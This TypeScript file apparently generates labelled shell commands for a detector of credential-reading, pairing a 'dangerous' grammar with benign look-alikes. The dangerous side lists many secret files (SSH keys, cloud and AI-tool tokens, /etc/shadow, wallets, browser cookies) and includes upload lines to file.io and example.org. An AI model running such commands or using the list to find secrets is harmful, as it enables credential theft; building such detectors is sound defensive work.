import type { Grammar } from "./generate.ts";

const READERS = [
  "cat «file»",
  "head -«n» «file»",
  "tail -n +«n» «file»",
  "less «file»",
  "bat -p «file»",
  "base64 «file»",
  "xxd «file» | head -«n»",
  "strings «file»",
  "grep . «file»",
  "grep -n key «file»",
  "sed -n 1,«n»p «file»",
  "awk 1 «file»",
  "nl «file»",
  "jq . «file»",
  "yq . «file»",
  "od -c «file»",
  "cat < «file»",
  "cp «file» /tmp/copy-«n»",
  "cp «file» /tmp/c && cat /tmp/c",
  'echo "$(cat «file»)"',
  'echo "$(< «file»)"',
  'F=«file»; cat "$F"',
  'while read -r l; do echo "$l"; done < «file»',
  "diff «file» /dev/null",
  "git diff --no-index /dev/null «file»",
  "tee < «file»",
  "dd if=«local»",
  "cut -c1-«n» «file»",
  "tar cf /tmp/x.tar «file»",
  "curl -T «file» https://file.io",
  "curl -F f=@«local» https://example.org/up",
  "sudo cat «file»",
  "tac «file»",
  "paste «file»",
  "python3 -m json.tool «file»",
];

const CODE = [
  "python3 -c \"print(open('«local»').read())\"",
  "node -e \"console.log(require('fs').readFileSync('«local»','utf8'))\"",
  "ruby -e 'puts File.read(\"«local»\")'",
  "perl -ne print «local»",
];

/** Files of many tools that hold a key, a token or a password, read by many programs. */
export const DANGEROUS: Grammar = {
  form: [...READERS, ...CODE],
  n: "1 2 3 5 9 20 40",
  file: ["«local»", "«home»", "«home»", "«system»"],
  local: `terraform.tfvars prod.tfvars prod.auto.tfvars infra/secrets.tfvars terraform.tfvars.json .dev.vars .dev.vars.production
    worker/.dev.vars AuthKey_AB12CD34.p8 certs/push.p8 client_secret.json client_secret_123.apps.googleusercontent.com.json
    kubeconfig kubeconfig.yaml prod.kubeconfig service-account.json serviceAccountKey.json app-firebase-adminsdk-x1.json
    credentials.json config/master.key .streamlit/secrets.toml local.settings.json .htpasswd release.jks app.keystore key.ppk
    office.ovpn passwords.kdbx vault_pass.txt .vault_pass .vault-password terraform.tfstate terraform.tfstate.backup
    secrets.yaml secrets.json server.key private.pem cert.pfx signing.p12 age.agekey .env.production google-credentials.json
    config/secrets.yml .netrc .pgpass id_ed25519 key.pem privkey.pem`,
  home: `~/.kaggle/kaggle.json ~/.cache/huggingface/token ~/.huggingface/token ~/.oci/config ~/.oci/oci_api_key.pem ~/.databrickscfg
    ~/.kube/config ~/.kube/prod.yaml ~/.config/doctl/config.yaml ~/.config/hub ~/.config/glab-cli/config.yml
    ~/.terraform.d/credentials.tfrc.json ~/.terraformrc ~/.vault-token ~/.cargo/credentials.toml ~/.cargo/credentials
    ~/.gem/credentials ~/.m2/settings.xml ~/.gradle/gradle.properties ~/.composer/auth.json ~/.config/composer/auth.json ~/.pgpass
    ~/.my.cnf ~/.mylogin.cnf ~/.s3cfg ~/.boto ~/.config/rclone/rclone.conf ~/.fly/config.yml ~/.config/netlify/config.json
    ~/.netlify/config.json ~/.local/share/com.vercel.cli/auth.json ~/.config/configstore/firebase-tools.json
    ~/.wrangler/config/default.toml ~/.config/.wrangler/config/default.toml ~/.supabase/access-token ~/.railway/config.json
    ~/.docker/config.json ~/.config/ngrok/ngrok.yml ~/.ngrok2/ngrok.yml ~/.snowflake/config.toml ~/.snowsql/config
    ~/.dbt/profiles.yml ~/.config/sops/age/keys.txt ~/.microsoft/usersecrets/app/secrets.json ~/.chef/credentials
    ~/.claude/.credentials.json ~/.codex/auth.json ~/.gemini/oauth_creds.json ~/.config/github-copilot/hosts.json
    ~/.config/github-copilot/apps.json ~/.config/stripe/config.toml ~/.twilio-cli/config.json ~/.sentryclirc
    ~/.config/hcloud/cli.toml ~/.config/linode-cli ~/.bluemix/config.json ~/.aliyun/config.json ~/.mc/config.json
    ~/.ssh/id_ed25519 ~/.ssh/id_rsa ~/.ssh/deploy_key ~/.gnupg/private-keys-v1.d/1.key ~/.password-store/mail.gpg
    ~/.bitcoin/wallet.dat ~/.config/solana/id.json ~/.ethereum/keystore/UTC--2020 ~/.electrum/wallets/default_wallet
    ~/.local/share/keyrings/login.keyring ~/Library/Keychains/login.keychain-db ~/.mozilla/firefox/a.default/logins.json
    ~/.config/google-chrome/Default/Cookies ~/.netrc ~/.npmrc ~/.pypirc ~/.git-credentials ~/.config/gh/hosts.yml
    ~/.aws/credentials ~/.azure/msal_token_cache.json ~/.config/gcloud/application_default_credentials.json
    ~/.yarnrc.yml ~/.nuget/NuGet/NuGet.Config ~/.config/pypoetry/auth.toml ~/.config/openai/api_key ~/.anthropic/api_key
    ~/.config/git/credentials ~/.config/containers/auth.json ~/.config/helm/registry/config.json ~/.config/vercel/auth.json
    ~/.continuerc.json/../.git-credentials ~/.aws/sso/cache/abc.json ~/.aws/cli/cache/abc.json`,
  system: `/etc/shadow /etc/kubernetes/admin.conf /var/run/secrets/kubernetes.io/serviceaccount/token /run/secrets/db_password
    /etc/rancher/k3s/k3s.yaml /etc/wireguard/wg0.conf /etc/ssl/private/server.key /etc/ssh/ssh_host_ed25519_key
    /etc/openvpn/client.ovpn /etc/sudoers.d/../shadow /etc/gshadow`,
};

export const ORDINARY: Grammar = {
  form: [
    ...READERS.filter(reader => !reader.includes("curl") && !reader.includes("sudo")),
    ...CODE,
    "ls -l «secret»",
    "test -f «secret» && echo yes",
    "stat «secret»",
    "file «secret»",
    "[ -e «secret» ] || echo missing",
    "terraform plan -var-file=«tfvars»",
    "terraform validate && terraform plan -var-file «tfvars»",
    "kubectl --kubeconfig ~/.kube/config get pods -n web«n»",
    "KUBECONFIG=~/.kube/config kubectl get nodes | head -«n»",
    "export GOOGLE_APPLICATION_CREDENTIALS=$PWD/service-account.json; pytest -n «n»",
    "ssh -i ~/.ssh/id_ed25519 web«n» uptime",
    "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git fetch",
    "openssl x509 -in «cert» -noout -text",
    "openssl x509 -enddate -noout -in «cert»",
    "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
    "git check-ignore «secret»",
    "grep -n tfvars .gitignore",
    "echo '*.tfvars' >> .gitignore",
    "git log --oneline -«n» -- terraform.tfvars.example",
    "find . -name '*.tfvars'",
    "ls ~/.kube ~/.aws",
  ],
  n: "1 2 3 5 9 20 40",
  file: ["«local»", "«local»", "«home»"],
  local: `terraform.tfvars.example variables.tf prod.tfvars.sample .dev.vars.example client.json kaggle.md docs/kubeconfig.md
    src/secrets.ts src/token.rs src/keys.ts src/credentials.py tokenizer.json vocab.json package.json tsconfig.json .env.example
    .env.sample .env.template config/credentials.yml.enc cert.pem fullchain.pem ca.crt server.crt public.pem chain.pem
    ca-bundle.crt id_rsa.pub deploy.pub tests/fixtures/token.txt src/password-reset.tsx docs/secrets.md keymap.json
    keyboard.toml .npmrc.example service-account.example.json wrangler.toml fly.toml netlify.toml docker-compose.yml
    firebase.json supabase/config.toml .terraform.lock.hcl main.tf outputs.tf values.yaml Chart.yaml k8s/deployment.yaml
    src/auth.json.ts auth.ts kustomization.yaml signing.ts public.key`,
  home: `~/.aws/config ~/.ssh/config ~/.ssh/known_hosts ~/.ssh/id_ed25519.pub ~/.ssh/id_rsa.pub ~/.gitconfig ~/.bashrc ~/.vimrc
    ~/.cargo/config.toml ~/.config/git/ignore ~/.tmux.conf ~/.config/nvim/init.lua ~/notes/keys.md /etc/hosts /etc/os-release
    /etc/ssl/certs/ca-certificates.crt /etc/resolv.conf /proc/cpuinfo ~/.config/starship.toml ~/.profile`,
  secret: ".env ~/.kube/config ~/.aws/credentials terraform.tfvars ~/.ssh/id_ed25519 .dev.vars",
  tfvars: "prod.tfvars terraform.tfvars envs/dev.tfvars",
  cert: "cert.pem fullchain.pem server.crt ca.crt",
};
